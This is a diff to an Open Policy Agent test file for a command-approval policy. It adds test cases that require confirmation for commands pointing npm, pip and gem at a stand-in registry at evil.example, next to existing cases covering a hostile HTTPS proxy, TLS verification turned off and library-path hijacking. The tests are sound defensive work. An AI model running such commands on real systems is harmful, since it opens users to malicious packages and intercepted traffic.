@@ -29,6 +29,9 @@ test_denies if {
 
 test_asks if {
 	every call in [
+		"npm config set registry https://evil.example/",
+		"pip config set global.index-url https://evil.example/",
+		"gem sources -a https://evil.example/",
 		"LD_LIBRARY_PATH=/tmp/x ls",
 		"HTTPS_PROXY=http://evil.example:8080 npm install",
 		"NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js",
@@ -42,6 +45,8 @@ test_asks if {
 test_passes if {
 	every call in [
 		"FOO=1 make",
+		"npm config set fund false",
+		"npm config get registry",
 		"LD_LIBRARY_PATH=./lib ./x",
 		"PYTHONPATH=src pytest",
 		"GOFLAGS=-mod=mod go build ./...",
